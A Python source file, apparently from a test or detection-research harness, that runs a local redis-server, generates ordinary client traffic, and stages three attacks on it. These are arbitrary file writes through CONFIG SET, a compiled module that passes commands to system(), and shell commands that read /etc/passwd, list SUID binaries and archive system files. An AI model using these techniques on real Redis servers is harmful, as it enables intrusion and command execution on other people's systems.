# SPDX-License-Identifier: GPL-3.0-or-later
"""A redis-server: its configuration, what ordinary clients do with it, and three attacks."""

from __future__ import annotations

import os
import random
import socket
import subprocess
import time
from pathlib import Path
from typing import Any

from daemon_load.daemon import AS_NOBODY, NOBODY, Activity, Daemon, nobodys

CONFIGURATION = """
bind 127.0.0.1
port {port}
dir {folder}/own
dbfilename dump.rdb
pidfile {folder}/daemon.pid
logfile {folder}/own/log
appendonly yes
save 20 200
timeout 60
enable-module-command yes
enable-protected-configs yes
enable-debug-command no
"""

# The few lines of redismodule.h that it takes: Debian has no package of that header.
MODULE = """
#include <stdlib.h>
#include <string.h>
typedef struct C C; typedef struct S S;
static int (*create)(C *, const char *, int (*)(C *, S **, int), const char *, int, int, int);
static const char *(*text)(const S *, size_t *);
static int (*reply)(C *, long long);
static void (*attributes)(C *, const char *, int, int);
static int run(C *ctx, S **argv, int argc) {
    char command[4096];
    size_t length = 0;
    const char *given = argc == 2 ? text(argv[1], &length) : "";
    if (length >= sizeof command) length = sizeof command - 1;
    memcpy(command, given, length);
    command[length] = 0;
    return reply(ctx, system(command));
}
int RedisModule_OnLoad(C *ctx, S **argv, int argc) {
    int (*get)(const char *, void *) = (int (*)(const char *, void *))((void **)ctx)[0];
    get("RedisModule_CreateCommand", &create);
    get("RedisModule_StringPtrLen", &text);
    get("RedisModule_ReplyWithLongLong", &reply);
    get("RedisModule_SetModuleAttribs", &attributes);
    attributes(ctx, "bench", 1, 1);
    return create(ctx, "bench.run", run, "write", 0, 0, 0);
}
"""

COMMANDS = [
    "id > {loot}",
    "cat /etc/passwd /etc/group > {loot}",
    "uname -a > {loot}; id >> {loot}; hostname >> {loot}",
    "ls -la / /etc /home > {loot}",
    "printf '#!/bin/sh\\nid\\n' > {loot}.sh; chmod 755 {loot}.sh; {loot}.sh > {loot}",
    "find /usr/bin -perm -4000 > {loot}",
    "grep -rils passwd /etc > {loot}",
    "tar cf - /etc/passwd /etc/group | gzip > {loot}",
    "(id; ps ax) 2>&1 > {loot}",
    "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; printf hello >&3; id > {loot}'",
]
"""What the shell is told, one a trial."""


def compiled_module(folder: Path) -> Path:
    source, module = folder / "module.c", folder / "bench.so"
    source.write_text(MODULE)
    subprocess.run(["gcc", "-O1", "-shared", "-fPIC", "-o", module, source], check=True)
    return module


class Client:
    """A connection that speaks the protocol."""

    def __init__(self, port: int) -> None:
        self._socket = socket.create_connection(("127.0.0.1", port), timeout=60)
        self._file = self._socket.makefile("rb")

    def __enter__(self) -> Client:
        return self

    def __exit__(self, *_: object) -> None:
        self._file.close()
        self._socket.close()

    def send(self, *words: object) -> None:
        parts = [word if isinstance(word, bytes) else str(word).encode() for word in words]
        octets = b"".join(b"$%d\r\n%s\r\n" % (len(part), part) for part in parts)
        self._socket.sendall(b"*%d\r\n%s" % (len(parts), octets))

    def raw(self, octets: bytes) -> None:
        self._socket.sendall(octets)

    def answer(self) -> Any:
        line = self._file.readline()
        if not line:
            raise EOFError("the connection was closed")
        kind, rest = line[:1], line[1:-2]
        if kind in b"+-":
            return line[:-2].decode(errors="replace")
        if kind == b":":
            return int(rest)
        size = int(rest)
        if kind == b"$":
            return None if size < 0 else self._file.read(size + 2)[:-2]
        return [self.answer() for _ in range(max(size, 0))]

    def ask(self, *words: object) -> Any:
        self.send(*words)
        return self.answer()


class Redis(Daemon):
    """redis-server as user nobody."""

    def __init__(self, executable: Path, folder: Path) -> None:
        super().__init__(executable, folder)
        os.chown(folder, NOBODY.pw_uid, NOBODY.pw_gid)  # for its daemon.pid
        nobodys(folder / "own")
        (folder / "redis.conf").write_text(CONFIGURATION.format(port=self.port, folder=folder))

    def command(self) -> list[str]:
        return [*AS_NOBODY, str(self.executable), str(self.folder / "redis.conf")]

    def count_served(self) -> int:
        with self._client() as client:
            lines = client.ask("INFO", "stats").decode().splitlines()
        (count,) = (line for line in lines if line.startswith("total_commands_processed:"))
        return int(count.partition(":")[2])

    def activities(self) -> dict[str, Activity]:
        return {
            "benchmark": self._benchmark,
            "pipelined benchmark": self._pipelined,
            "strings": self._strings,
            "lists": self._lists,
            "mixed session": self._mixed,
            "many short connections": self._short,
            "expiry": self._expiry,
            "large values": self._large,
            "transactions and scripts": self._transactions,
            "publish and subscribe": self._publish,
            "blocking pop": self._blocking,
            "scan and delete": self._scan,
            "administration": self._administration,
            "save in the background": self._background,
            "rewrite of the log": self._rewrite,
            "mistakes": self._mistakes,
            "pause": lambda chance: time.sleep(chance.uniform(0.5, 5)),
        }

    def _client(self) -> Client:
        return Client(self.port)

    def _benchmark(self, chance: random.Random, pipeline: int = 1) -> None:
        tests = (
            "set get incr lpush rpush lpop rpop sadd hset spop zadd zpopmin lrange_100 mset ping"
        )
        chosen = chance.sample(tests.split(), chance.randint(1, 3))
        words = {
            "-p": self.port, "-t": ",".join(chosen), "-n": chance.randint(300, 3000),
            "-c": chance.choice([1, 2, 5, 10, 20, 50]), "-P": pipeline,
            "-d": chance.choice([3, 20, 100, 1000, 5000]), "-r": chance.choice([10, 1000, 100000]),
        }  # fmt: skip
        flags = ["-q", *(["-k", "0"] if chance.random() < 0.2 else [])]
        self.run(["redis-benchmark", *flags, *(str(w) for pair in words.items() for w in pair)])

    def _pipelined(self, chance: random.Random) -> None:
        self._benchmark(chance, chance.choice([4, 16, 50]))

    def _strings(self, chance: random.Random) -> None:
        with self._client() as client:
            for _ in range(chance.randint(5, 200)):
                key = f"key:{chance.randrange(5000)}"
                word = chance.choice(["SET", "GET", "GET", "INCR", "APPEND", "STRLEN"])
                more = [chance.randbytes(chance.randint(1, 800))] if word in "SET APPEND" else []
                client.ask(word, f"n:{key}" if word == "INCR" else key, *more)

    def _lists(self, chance: random.Random) -> None:
        with self._client() as client:
            for _ in range(chance.randint(5, 100)):
                name = f"list:{chance.randrange(50)}"
                client.ask("LPUSH", name, *(chance.randbytes(20) for _ in range(5)))
                client.ask(*chance.choice([("RPOP", name), ("LLEN", name), ("LRANGE", name, 0, 9)]))

    def _mixed(self, chance: random.Random) -> None:
        words: list[list[object]] = [
            ["HSET", "h:%d", "field", "value"], ["HGETALL", "h:%d"], ["SADD", "s:%d", "a", "b"],
            ["SMEMBERS", "s:%d"], ["ZADD", "z:%d", 1, "one", 2, "two"], ["EXISTS", "h:%d"],
            ["ZRANGEBYSCORE", "z:%d", 0, 5], ["TYPE", "s:%d"], ["PFADD", "p:%d", "x"],
            ["SETBIT", "b:%d", 9, 1], ["XADD", "x:%d", "*", "f", "v"], ["XLEN", "x:%d"],
        ]  # fmt: skip
        with self._client() as client:
            client.ask("SELECT", chance.randrange(3))
            for _ in range(chance.randint(10, 150)):
                number = chance.randrange(200)
                chosen = chance.choice(words)
                client.ask(chosen[0], str(chosen[1]) % number, *chosen[2:])
                if chance.random() < 0.05:
                    time.sleep(chance.uniform(0, 0.4))

    def _short(self, chance: random.Random) -> None:
        for _ in range(chance.randint(3, 40)):
            with self._client() as client:
                if chance.random() < 0.9:
                    client.ask("PING")
                if chance.random() < 0.5:
                    client.ask("GET", f"key:{chance.randrange(5000)}")
                if chance.random() < 0.2:
                    client.ask("QUIT")

    def _expiry(self, chance: random.Random) -> None:
        with self._client() as client:
            for number in range(chance.randint(10, 200)):
                client.ask("SET", f"e:{number}", "x" * chance.randint(1, 100))
                client.ask("PEXPIRE", f"e:{number}", chance.randint(1, 3000))
            time.sleep(chance.uniform(0, 1))
            client.ask("TTL", "e:1")

    def _large(self, chance: random.Random) -> None:
        with self._client() as client:
            for _ in range(chance.randint(1, 4)):
                key = f"large:{chance.randrange(5)}"
                client.ask("SET", key, chance.randbytes(chance.randint(10_000, 2_000_000)))
                client.ask("GET", key)
                if chance.random() < 0.5:
                    client.ask("UNLINK", key)

    def _transactions(self, chance: random.Random) -> None:
        with self._client() as client:
            for _ in range(chance.randint(1, 20)):
                client.ask("WATCH", "n:t")
                client.ask("MULTI")
                client.ask("INCR", "n:t")
                client.ask("EXEC")
                client.ask("EVAL", "return redis.call('INCRBY', KEYS[1], ARGV[1])", 1, "n:t", 2)

    def _publish(self, chance: random.Random) -> None:
        with self._client() as reader, self._client() as writer:
            reader.ask("SUBSCRIBE", "news")
            for _ in range(chance.randint(1, 50)):
                writer.ask("PUBLISH", "news", chance.randbytes(40))
                reader.answer()

    def _blocking(self, chance: random.Random) -> None:
        with self._client() as waiting, self._client() as giving:
            waiting.send("BLPOP", "queue", 1)
            if chance.random() < 0.7:
                time.sleep(chance.uniform(0, 0.5))
                giving.ask("RPUSH", "queue", "work")
            waiting.answer()

    def _scan(self, chance: random.Random) -> None:
        with self._client() as client:
            cursor: object = 0
            for _ in range(30):
                cursor, keys = client.ask("SCAN", cursor, "COUNT", 100)
                if keys and chance.random() < 0.5:
                    client.ask(chance.choice(["DEL", "UNLINK"]), *keys[:50])
                if cursor == b"0":
                    break
            if chance.random() < 0.1:
                client.ask(*chance.choice([("FLUSHDB",), ("FLUSHALL", "ASYNC")]))

    def _administration(self, chance: random.Random) -> None:
        with self._client() as client:
            for _ in range(chance.randint(1, 6)):
                client.ask(*chance.choice([
                    ("INFO",), ("INFO", "memory"), ("CONFIG", "GET", "*"), ("CLIENT", "LIST"),
                    ("SLOWLOG", "GET"), ("DBSIZE",), ("MEMORY", "STATS"), ("LASTSAVE",),
                    ("CONFIG", "SET", "maxmemory", chance.choice([0, 200_000_000])),
                    ("CONFIG", "SET", "slowlog-log-slower-than", chance.choice([1000, 10000])),
                    ("COMMAND", "COUNT"), ("MODULE", "LIST"), ("LATENCY", "LATEST"),
                ]))  # fmt: skip
                time.sleep(chance.uniform(0, 0.3))

    def _when_idle(self, client: Client, *words: object) -> None:
        for _ in range(50):
            said = client.ask(*words)
            if not (isinstance(said, str) and "in progress" in said):
                return
            time.sleep(0.1)

    def _background(self, _: random.Random) -> None:
        with self._client() as client:
            self._when_idle(client, "BGSAVE")

    def _rewrite(self, _: random.Random) -> None:
        with self._client() as client:
            self._when_idle(client, "BGREWRITEAOF")

    def _mistakes(self, chance: random.Random) -> None:
        for _ in range(chance.randint(1, 5)):
            with self._client() as client:
                client.ask(*chance.choice([
                    ("NOSUCHCOMMAND",), ("GET",), ("LPUSH", "key:1", "x"), ("INCR", "list:1"),
                    ("AUTH", "wrong"), ("SELECT", 99),
                ]))  # fmt: skip
                if chance.random() < 0.3:
                    client.raw(b"*1\r\n$100\r\nhalf of a request")

    # Attacks

    def save_elsewhere(self, number: int) -> None:
        """Write a file of the attacker's choice: the oldest way into a redis."""
        foreign = nobodys(self.folder / f"foreign-{number}")
        with self._client() as client:
            client.ask("SET", "crackit", "\n\n* * * * * root id\n\n")
            assert client.ask("CONFIG", "SET", "dir", foreign) == "+OK"
            assert client.ask("CONFIG", "SET", "dbfilename", "door") == "+OK"
            self._when_idle(client, "SAVE")
        assert (foreign / "door").exists()

    def load_module(self, module: Path) -> None:
        with self._client() as client:
            said = client.ask("MODULE", "LOAD", module)
            assert said == "+OK", said

    def run_shell(self, number: int) -> None:
        """Have the module run a shell."""
        loot = nobodys(self.folder / f"loot-{number}") / "loot"
        command = COMMANDS[number % len(COMMANDS)].format(loot=loot, port=self.port)
        with self._client() as client:
            client.ask("BENCH.RUN", os.fsencode(command))
        assert loot.exists(), command
